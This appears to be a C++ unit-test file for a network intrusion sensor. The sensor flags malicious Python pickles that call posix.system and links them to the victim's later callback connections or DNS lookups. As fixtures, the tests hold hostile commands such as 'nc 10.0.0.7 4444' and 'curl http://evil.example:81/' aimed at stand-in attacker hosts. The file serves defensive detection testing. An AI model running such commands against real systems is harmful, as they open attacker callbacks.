// The Detector told of pickles and of where their receivers turn, and a ContactWatch between packets and the Detector.
#include "sensor/detect/callback_watch.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <algorithm>
#include <string>
#include <vector>

#include "sensor/detect/detector.h"
#include "sensor/net/address_text.h"
#include "sensor/net/contact_watch.h"

namespace pickletap {
namespace {

using ::testing::ElementsAre;
using ::testing::HasSubstr;
using ::testing::IsEmpty;

constexpr int64_t kMs = 1'000'000, kSecond = 1'000 * kMs;
constexpr int64_t kNow = 1'000 * kSecond;

Endpoint at(const std::string& address, uint16_t port) { return {*parse_address(address), port}; }

/// The call-backs, and all alerts.
class Written final : public RecordSink {
 public:
  void write(const Record& record) override {
    const auto* alert = std::get_if<Alert>(&record);
    if (alert == nullptr) return;
    if (!alert->callback) return others.push_back(std::string(alert->rule->name));
    alerts.push_back(*alert);
    lines.push_back(std::string(alert->callback->kind) + " " + to_text(alert->head.flow.responder.address) + ":" +
                    std::to_string(alert->head.flow.responder.port) + " named " + alert->callback->named);
  }
  std::vector<std::string> lines, others;
  std::vector<Alert> alerts;
};

class CallbackTest : public ::testing::Test {
 protected:
  CallbackTest() { config_.alerts.collapse_window_s = 0; }

  /// A pickle from `client` to the listener at `server`, which calls posix.system with `command`.
  static Event pickle(uint64_t flow_id, const std::string& command, int64_t time_ns = kNow, bool settled = true,
                      const Endpoint& client = at("10.0.0.1", 40000), const Endpoint& server = at("10.0.0.9", 50000)) {
    PickleSeen seen;
    seen.report.end = PickleEnd::kStop;
    seen.report.findings.push_back(
        {PickleRule::kCodeExecution, "posix.system", "command", "runs a command", 0, {}, {}, {}});
    seen.report.calls.push_back({"posix.system", "('" + command + "',)", "REDUCE", 0});
    Observation observation;
    observation.auth = AuthState::kNone;
    observation.auth_settled = settled;
    observation.fact = std::move(seen);
    Event event;
    event.time_ns = time_ns;
    event.flow.flow_id = flow_id;
    event.flow.initiator = client;
    event.flow.responder = server;
    event.what = std::move(observation);
    return event;
  }
  static Event settled(uint64_t flow_id, AuthState auth, int64_t time_ns) {
    Event event = pickle(flow_id, "", time_ns);
    auto& observation = std::get<Observation>(event.what);
    observation.auth = auth;
    observation.from = Direction::kToClient;
    observation.fact = AuthChanged{};
    return event;
  }
  static Event contact(const Endpoint& to, int64_t time_ns, ContactSeen seen = {}, uint64_t flow_id = 900,
                       const std::string& victim = "10.0.0.9", uint16_t port = 33000) {
    Event event;
    event.time_ns = time_ns;
    event.flow.flow_id = flow_id;
    event.flow.initiator = at(victim, port);
    event.flow.responder = to;
    event.what = std::move(seen);
    return event;
  }
  static ContactSeen query(const std::string& name) { return {ContactSeen::Kind::kQuery, name, {}}; }

  uint64_t suppressed(const Detector& detector) const {
    const auto rules = detector.snapshot().rules;
    const auto rule =
        std::find_if(rules.begin(), rules.end(), [](const auto& r) { return r.name == "attack.callback"; });
    return detector.counters().suppressed[static_cast<size_t>(rule - rules.begin())];
  }

  Written written_;
  Config config_;
};

TEST_F(CallbackTest, TiesTheCallBacksFlowToThePickles) {
  Detector detector(config_, written_);
  detector.put(pickle(1, "nc 10.0.0.1 4444"));
  detector.put(contact(at("10.0.0.1", 4444), kNow + 12 * kMs));
  ASSERT_THAT(written_.lines, ElementsAre("connection 10.0.0.1:4444 named 10.0.0.1:4444"));
  const Alert& alert = written_.alerts[0];
  EXPECT_EQ(alert.outcome, Outcome::kExecuted);
  EXPECT_EQ(alert.head.flow.flow_id, 900U);
  EXPECT_EQ(to_text(alert.head.sender().address), "10.0.0.9");
  EXPECT_FALSE(alert.head.has_protocol);
  ASSERT_TRUE(alert.other_flow.has_value());
  EXPECT_EQ(alert.other_flow->flow_id, 1U);
  EXPECT_EQ(alert.callback->rule, "pickle.code-execution");
  EXPECT_EQ(alert.callback->callable, "posix.system");
  EXPECT_EQ(alert.callback->after_ns, 12 * kMs);
  EXPECT_THAT(alert.signature, HasSubstr("connects to 10.0.0.1:4444"));
  EXPECT_EQ(alert.rule->severity, Severity::kHigh);
}

TEST_F(CallbackTest, CountsOnlyWhatThePickleNamesAndOnlyWithinTheWindow) {
  config_.alerts.callback_window_s = 60;
  const struct {
    const char* what;
    const char* command;
    Endpoint to;
    int64_t after;
    bool want;
    uint64_t flow_id = 900;
    const char* victim = "10.0.0.9";
  } table[] = {
      {"host and port", "nc 10.0.0.7 4444", at("10.0.0.7", 4444), kSecond, true},
      {"another port", "nc 10.0.0.7 4444", at("10.0.0.7", 4445), kSecond, false},
      {"another host", "nc 10.0.0.7 4444", at("10.0.0.8", 4444), kSecond, false},
      {"another victim", "nc 10.0.0.7 4444", at("10.0.0.7", 4444), kSecond, false, 900, "10.0.0.10"},
      {"no port is named", "ping 10.0.0.7", at("10.0.0.7", 80), kSecond, true},
      {"the sender, no port named", "ping 10.0.0.1", at("10.0.0.1", 80), kSecond, true},
      {"the sender, another port than named", "nc 10.0.0.1 4444", at("10.0.0.1", 80), kSecond, false},
      {"before the pickle", "nc 10.0.0.7 4444", at("10.0.0.7", 4444), -1, false},
      {"at the end of the window", "nc 10.0.0.7 4444", at("10.0.0.7", 4444), 60 * kSecond, true},
      {"after the window", "nc 10.0.0.7 4444", at("10.0.0.7", 4444), 60 * kSecond + 1, false},
      {"the pickle's own flow", "nc 10.0.0.7 4444", at("10.0.0.7", 4444), kSecond, false, 1},
      {"nothing is named", "id", at("10.0.0.7", 4444), kSecond, false},
  };
  for (const auto& row : table) {
    Written written;
    Detector detector(config_, written);
    detector.put(pickle(1, row.command));
    detector.put(contact(row.to, kNow + row.after, {}, row.flow_id, row.victim));
    EXPECT_EQ(written.lines.size(), row.want ? 1U : 0U) << row.what;
  }
}

/// A manager's client connects to it for each call: where the pickle came from its server and names no port, that is no
/// proof.
TEST_F(CallbackTest, DoesNotTakeTheNextConnectionToTheListenerForOne) {
  Detector detector(config_, written_);
  Event event = pickle(1, "ping 10.0.0.9");
  std::get<Observation>(event.what).from = Direction::kToClient;
  detector.put(std::move(event));
  detector.put(contact(at("10.0.0.9", 50000), kNow + kMs, {}, 901, "10.0.0.1"));
  EXPECT_THAT(written_.lines, IsEmpty());
  detector.put(contact(at("10.0.0.9", 50001), kNow + kMs, {}, 902, "10.0.0.1"));
  EXPECT_EQ(written_.lines.size(), 1U);
}

TEST_F(CallbackTest, TellsADestinationOnceAWatch) {
  Detector detector(config_, written_);
  detector.put(pickle(1, "nc 10.0.0.7 1; ping 10.0.0.7"));
  for (int64_t i = 1; i <= 5; ++i)
    detector.put(contact(at("10.0.0.7", 1), kNow + i, {}, 900 + static_cast<uint64_t>(i)));
  detector.put(contact(at("10.0.0.7", 2), kNow + 9));
  EXPECT_EQ(written_.lines.size(), 2U);
  EXPECT_EQ(suppressed(detector), 4U);
  // The same pickle again, and the same call-back: news.
  detector.put(pickle(2, "nc 10.0.0.7 1; ping 10.0.0.7", kNow + kSecond));
  detector.put(contact(at("10.0.0.7", 1), kNow + 2 * kSecond, {}, 910));
  EXPECT_EQ(written_.lines.size(), 3U);
  EXPECT_EQ(written_.alerts.back().other_flow->flow_id, 2U);
}

TEST_F(CallbackTest, FollowsNamesAndTheAddressesThatAnswerTheVictim) {
  Detector detector(config_, written_);
  detector.put(pickle(1, "curl http://evil.example:81/"));
  const Endpoint resolver = at("10.0.0.53", 53);
  const ContactSeen answer{ContactSeen::Kind::kAnswer, "evil.example", {*parse_address("192.0.2.7")}};
  // Nobody asked: anybody can send that.
  detector.put(contact(resolver, kNow + 1, answer));
  detector.put(contact(at("192.0.2.7", 81), kNow + 2));
  EXPECT_THAT(written_.lines, IsEmpty());
  detector.put(contact(resolver, kNow + 3, query("evil.example")));
  detector.put(contact(resolver, kNow + 4, query("x.evil.example")));
  detector.put(contact(resolver, kNow + 5, query("devil.example")));
  detector.put(contact(resolver, kNow + 6, answer));
  detector.put(contact(at("192.0.2.7", 80), kNow + 7));
  detector.put(contact(at("192.0.2.7", 81), kNow + 8));
  EXPECT_THAT(written_.lines,
              ElementsAre("query 10.0.0.53:53 named evil.example:81", "connection 192.0.2.7:81 named evil.example:81"));
  EXPECT_EQ(written_.alerts[0].callback->query, "evil.example");
}

TEST_F(CallbackTest, WaitsWhereItIsNotYetKnownWhetherThePickleWasLoaded) {
  for (const bool challenged : {false, true}) {
    Written written;
    Detector detector(config_, written);
    detector.put(pickle(1, "nc 10.0.0.7 1", kNow, false));
    detector.put(contact(at("10.0.0.7", 1), kNow + 10 * kMs));
    EXPECT_THAT(written.lines, IsEmpty());
    detector.put(settled(1, challenged ? AuthState::kPending : AuthState::kNone, kNow + 20 * kMs));
    EXPECT_EQ(written.lines.size(), challenged ? 0U : 1U);
    detector.put(contact(at("10.0.0.7", 1), kNow + 30 * kMs, {}, 901));
    EXPECT_EQ(written.lines.size(), challenged ? 0U : 1U);
  }
  Detector detector(config_, written_);
  detector.put(pickle(1, "nc 10.0.0.7 1", kNow, false));
  detector.put(contact(at("10.0.0.7", 1), kNow + 10 * kMs));
  detector.tick(kNow + 600 * kMs);
  EXPECT_EQ(written_.lines.size(), 1U);
}

TEST_F(CallbackTest, ArmsForRulesAboutRunningCodeThatTheOperatorWantsToHearOf) {
  const struct {
    const char* what;
    PickleRule rule;
    std::string off, suppress;
    bool want;
  } table[] = {
      {"by reference", PickleRule::kDangerousReference, "", "", true},
      {"bytecode", PickleRule::kCodeObject, "", "", true},
      {"unknown", PickleRule::kUnknownCall, "", "", false},
      {"bomb", PickleRule::kResourceBomb, "", "", false},
      {"the pickle's rule is off", PickleRule::kCodeExecution, "pickle.code-execution", "", false},
      {"the rule itself is off", PickleRule::kCodeExecution, "attack.callback", "", false},
      {"a wanted callable", PickleRule::kCodeExecution, "", "callable=posix.*", false},
      {"a wanted source", PickleRule::kCodeExecution, "", "source=10.0.0.1", false},
      {"another source", PickleRule::kCodeExecution, "", "source=10.0.0.2", true},
  };
  for (const auto& row : table) {
    Config config = config_;
    if (!row.off.empty()) config.rules[row.off].enabled = false;
    if (!row.suppress.empty()) config.rules["pickle.code-execution"].suppress = {row.suppress};
    Written written;
    Detector detector(config, written);
    Event event = pickle(1, "nc 10.0.0.7 1");
    std::get<PickleSeen>(std::get<Observation>(event.what).fact).report.findings[0].rule = row.rule;
    detector.put(std::move(event));
    detector.put(contact(at("10.0.0.7", 1), kNow + 1));
    EXPECT_EQ(written.lines.size(), row.want ? 1U : 0U) << row.what;
  }
}

TEST_F(CallbackTest, IsBoundedAndCountsWhatMadeRoom) {
  Detector detector(config_, written_);
  const auto forgotten = [&] { return detector.snapshot().watches.callbacks_forgotten; };
  for (size_t i = 0; i < CallbackWatch::kMaxWatches + 2; ++i) {
    detector.put(pickle(1 + i, "nc 10.0.0.7 " + std::to_string(1 + i)));
  }
  EXPECT_EQ(forgotten(), 2U);
  detector.put(contact(at("10.0.0.7", 2), kNow + 1));
  EXPECT_THAT(written_.lines, IsEmpty());
  detector.put(contact(at("10.0.0.7", 3), kNow + 1));
  EXPECT_EQ(written_.lines.size(), 1U);
  // More victims than are kept: the one armed first goes, with its watches.
  for (size_t i = 0; i < CallbackWatch::kMaxVictims; ++i) {
    const Endpoint server = at("10.1.0." + std::to_string(i + 1), 50000);
    detector.put(pickle(1000 + i, "nc 10.0.0.7 1", kNow, true, at("10.0.0.1", 40000), server));
  }
  EXPECT_EQ(forgotten(), 2U + CallbackWatch::kMaxWatches);
  detector.put(contact(at("10.0.0.7", 5), kNow + 1, {}, 950));
  EXPECT_EQ(written_.lines.size(), 1U);
  EXPECT_EQ(detector.armed_board().take()->victims.size(), CallbackWatch::kMaxVictims);
  // When their time is over nobody is watched.
  detector.tick(kNow + 301 * kSecond);
  EXPECT_TRUE(detector.armed_board().take()->victims.empty());
}

// ---- Packets --------------------------------------------------------------------------------------------------------

class ContactTest : public CallbackTest {
 protected:
  ContactTest() : detector_(config_, written_), tunnels_(16, 60, 1), contacts_(tunnels_, detector_, 1) {
    contacts_.set_board(&detector_.armed_board());
  }
  static Packet packet(const Endpoint& from, const Endpoint& to, int64_t time_ns, uint64_t number = 77) {
    Packet packet;
    packet.time_ns = time_ns;
    packet.number = number;
    packet.source = from.address;
    packet.source_port = from.port;
    packet.destination = to.address;
    packet.destination_port = to.port;
    packet.wire_bytes = 60;
    return packet;
  }
  void syn(const Endpoint& from, const Endpoint& to, int64_t time_ns) {
    static constexpr std::array<uint8_t, 20> kHeader{};
    Packet one = packet(from, to, time_ns);
    one.tcp_header = kHeader;
    one.flags = TcpFlag::kSyn;
    contacts_.on_connection(one, make_flow_key(one));
  }
  void udp(const Endpoint& from, const Endpoint& to, int64_t time_ns, std::string_view payload = {}) {
    Packet one = packet(from, to, time_ns);
    one.payload = {reinterpret_cast<const uint8_t*>(payload.data()), payload.size()};
    contacts_.on_datagram(one);
  }
  static std::string question(std::string_view label) {
    std::string bytes("\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00", 12);
    bytes += static_cast<char>(label.size());
    bytes += label;
    return bytes + std::string(
                       "\x04"
                       "evil\x07"
                       "example\x00\x00\x01\x00\x01",
                       18);
  }

  Detector detector_;
  TunnelTable tunnels_;
  ContactWatch contacts_;
  const Endpoint victim_ = at("10.0.0.9", 33000), attacker_ = at("10.0.0.7", 4444);
};

TEST_F(ContactTest, TellsWhatCameBeforeTheAlertAndAfterThePickle) {
  syn(victim_, attacker_, kNow - kMs);  // before the pickle: no call-back
  syn(victim_, at("10.0.0.7", 4445), kNow + kMs);
  detector_.put(pickle(1, "nc 10.0.0.7 4444; nc 10.0.0.7 4445"));
  EXPECT_THAT(written_.lines, IsEmpty());
  contacts_.look();
  EXPECT_THAT(written_.lines, ElementsAre("connection 10.0.0.7:4445 named 10.0.0.7:4445"));
  contacts_.look();
  syn(at("10.0.0.9", 33001), attacker_, kNow + 2 * kMs);
  EXPECT_EQ(written_.lines.size(), 2U);
}

TEST_F(ContactTest, CountsTheVictimsOwnPacketsOnly) {
  detector_.put(pickle(1, "nc -u 10.0.0.7 4444"));
  udp(attacker_, victim_, kNow + 1);
  udp(victim_, attacker_, kNow + 2);  // an answer
  syn(attacker_, victim_, kNow + 3);
  udp(at("10.0.0.7", 53), victim_, kNow + 4, question("x"));
  EXPECT_THAT(written_.lines, IsEmpty());
  udp(at("10.0.0.9", 33001), attacker_, kNow + 5);
  udp(at("10.0.0.9", 33001), attacker_, kNow + 6);
  EXPECT_THAT(written_.lines, ElementsAre("datagram 10.0.0.7:4444 named 10.0.0.7:4444"));
  EXPECT_TRUE(written_.alerts[0].head.flow.is_udp);
}

TEST_F(ContactTest, TakesUdpThatWasThereBeforeForNewOnlyAfterSilence) {
  udp(victim_, attacker_, kNow - kSecond);
  detector_.put(pickle(1, "nc -u 10.0.0.7 4444"));
  udp(victim_, attacker_, kNow + kSecond);
  EXPECT_THAT(written_.lines, IsEmpty());
  udp(victim_, attacker_, kNow + 2 * kSecond + (int64_t{ContactWatch::kUdpIdle} << ContactWatch::kUdpTimeShift));
  EXPECT_EQ(written_.lines.size(), 1U);
}

TEST_F(ContactTest, ReadsQueriesOverUdpAndTcpBeforeAndAfterTheAlert) {
  udp(victim_, at("10.0.0.53", 53), kNow + 1, question("a"));
  detector_.put(pickle(1, "ping evil.example"));
  contacts_.look();
  ASSERT_EQ(written_.lines.size(), 1U);
  EXPECT_EQ(written_.alerts[0].callback->query, "a.evil.example");
  detector_.put(pickle(2, "ping evil.example; id", kNow + kSecond));
  Packet stream = packet(victim_, at("10.0.0.53", 53), kNow + 2 * kSecond);
  static constexpr std::array<uint8_t, 20> kHeader{};
  stream.tcp_header = kHeader;
  const std::string message = question("b");
  const std::string framed = std::string{'\0', static_cast<char>(message.size())} + message;
  stream.payload = {reinterpret_cast<const uint8_t*>(framed.data()), framed.size()};
  contacts_.on_first_payload(stream);
  ASSERT_EQ(written_.lines.size(), 2U);
  EXPECT_FALSE(written_.alerts[1].head.flow.is_udp);
  for (const uint16_t port : {uint16_t{5353}, uint16_t{5355}}) {
    detector_.put(pickle(10U + port, "ping evil.example", kNow + port * kMs));
    udp(victim_, at("224.0.0.251", port), kNow + port * kMs + 1, question("c"));
  }
  EXPECT_EQ(written_.lines.size(), 4U);
}

TEST_F(ContactTest, IsBoundedAndCountsWhatItCouldNotLookThrough) {
  syn(victim_, attacker_, kNow + 1);
  for (unsigned i = 0; i < ContactWatch::kMaxRecent; ++i) {
    syn(at("10.2.0.1", static_cast<uint16_t>(i)), at("10.2.0.2", 80), kNow + 2);
  }
  detector_.put(pickle(1, "nc 10.0.0.7 4444"));
  contacts_.look();
  EXPECT_THAT(written_.lines, IsEmpty());
  EXPECT_EQ(detector_.snapshot().watches.contacts_forgotten, 1U);
}

TEST_F(ContactTest, RemembersNothingWhereNobodyLooksForCallBacks) {
  config_.alerts.callback_window_s = 0;
  detector_.configure(config_);
  syn(victim_, attacker_, kNow + 1);
  config_.alerts.callback_window_s = 300;
  detector_.configure(config_);
  detector_.put(pickle(1, "nc 10.0.0.7 4444"));
  contacts_.look();
  EXPECT_THAT(written_.lines, IsEmpty());
  syn(victim_, attacker_, kNow + 2);
  EXPECT_EQ(written_.lines.size(), 1U);
  // Switched off, those who are watched are watched no more.
  config_.alerts.callback_window_s = 0;
  detector_.configure(config_);
  syn(at("10.0.0.9", 33001), attacker_, kNow + 3);
  EXPECT_EQ(written_.lines.size(), 1U);
}

}  // namespace
}  // namespace pickletap
